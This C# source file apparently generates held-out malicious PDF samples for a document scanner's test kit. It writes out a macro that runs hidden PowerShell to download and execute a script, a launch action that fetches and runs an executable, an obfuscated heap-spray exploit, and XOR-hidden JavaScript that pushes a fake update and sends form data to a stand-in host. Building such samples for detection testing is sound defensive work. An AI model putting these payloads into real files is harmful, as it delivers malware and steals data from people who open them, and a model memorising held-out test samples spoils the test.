using System.Text;

namespace ScanHost.TestKit.HeldOut.Eighth;

/// <summary>PDF files that start a script or a program when they are opened.</summary>
public sealed class PdfScripts : EighthRound
{
    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        var macros = EighthOffice.Word(EighthOffice.P("Please enable content"), macros: EighthOffice.Vba(("ThisDocument", "Sub AutoOpen()\n    Shell \"powershell -w hidden -c IEX(New-Object Net.WebClient).DownloadString('http://198.51.100.77/n.ps1')\", 0\nEnd Sub")));
        yield return ("nm4_scan_0117.pdf", new PdfBuilder()
            .Catalogue("/OpenAction << /S /JavaScript /JS (this.exportDataObject\\({ cName: \"HJS2BX.docm\", nLaunch: 2 }\\);) >> /Names << /EmbeddedFiles << /Names [ (HJS2BX.docm) 6 0 R ] >> >>")
            .Stream(5, "/Type /EmbeddedFile /Subtype /application#2Fvnd.ms-word /Filter /FlateDecode", EighthForms.Zlib(macros)).Add(6, "<< /Type /Filespec /F (HJS2BX.docm) /UF (HJS2BX.docm) /EF << /F 5 0 R >> >>").Build());
        yield return ("Fedex_label.pdf", new PdfBuilder()
            .Catalogue("/OpenAction << /S /Launch /Win << /F (cmd.exe) /D (c:\\\\windows\\\\system32) /P (/Q /C %HOMEDRIVE%&cd %HOMEPATH%&\\(if exist \"Desktop\\\\template.pdf\" \\(cd \"Desktop\"\\)\\)&\\(start powershell -w hidden -c iwr http://192.0.2.200/l.exe -o l.exe;./l.exe\\)\n\n\n\n\n\n\nTo view the encrypted content please tick the \"Do not show this message again\" box and press Open.) >> >>").Build());
        var spray = "var sc = unescape(\"" + string.Concat(EighthForms.Noise(160, 11).Chunk(2).Select(pair => $"%u{pair[0]:x2}{pair[1]:x2}")) + "\");\nvar nop = unescape(\"%u0c0c%u0c0c\");\nwhile (nop.length < 0x40000) nop += nop;\nvar mem = new Array();\nfor (var i = 0; i < 1200; i++) mem[i] = nop.substring(0, 0x40000 - sc.length) + sc;\nvar num = 12999999999999999999888888888888888888;\nutil.printf(\"%45000f\", num);\ntry { Collab.getIcon(\"N.\" + nop.substring(0, 4096)); this.media.newPlayer(null); } catch (e) {}\n";
        yield return ("agenda.pdf", new PdfBuilder().Catalogue("/Op#65nAc#74ion 5 0 R")
            .Add(5, "<< /Type /Action /S /J#61v#61Scr#69pt /J#53 6 0 R >>").Stream(6, "/Filter [ /ASCIIHexDecode /FlateDecode ]", Encoding.ASCII.GetBytes(Convert.ToHexString(EighthForms.Zlib(Encoding.Latin1.GetBytes(spray))) + ">")).Build());
        var hidden = "var t = this.info.Subject; var r = ''; for (var i = 0; i < t.length; i += 2) r += String.fromCharCode(parseInt(t.substr(i, 2), 16) ^ 0x21); (app)['ev' + 'al'](r);";
        var inside = "app.launchURL('http://agenda-view.example/dl/Viewer_Update.exe', true); this.submitForm({ cURL: 'http://agenda-view.example/k', cSubmitAs: 'XML' });";
        byte[] objects = Encoding.Latin1.GetBytes("7 0 8 56 << /S /JavaScript /JS 9 0 R /Next 8 0 R               >><< /S /JavaScript /JS (this.disclosed = true;) >>");
        yield return ("quote_signed.pdf", new PdfBuilder().Catalogue("/AA << /WC 7 0 R >> /OpenAction 7 0 R").Add(7, "<< /S /JavaScript /JS 9 0 R >>").Stream(9, "/Filter /FlateDecode", EighthForms.Zlib(Encoding.Latin1.GetBytes(hidden)))
            .Add(10, "<< /Subject <" + Convert.ToHexString(Encoding.Latin1.GetBytes(Convert.ToHexString(EighthForms.Turned(Encoding.Latin1.GetBytes(inside), 0x21)).ToLowerInvariant())) + "> /Producer (wkhtmltopdf) >>").Stream(11, "/Type /ObjStm /N 2 /First 9", objects).Build());
    }
}
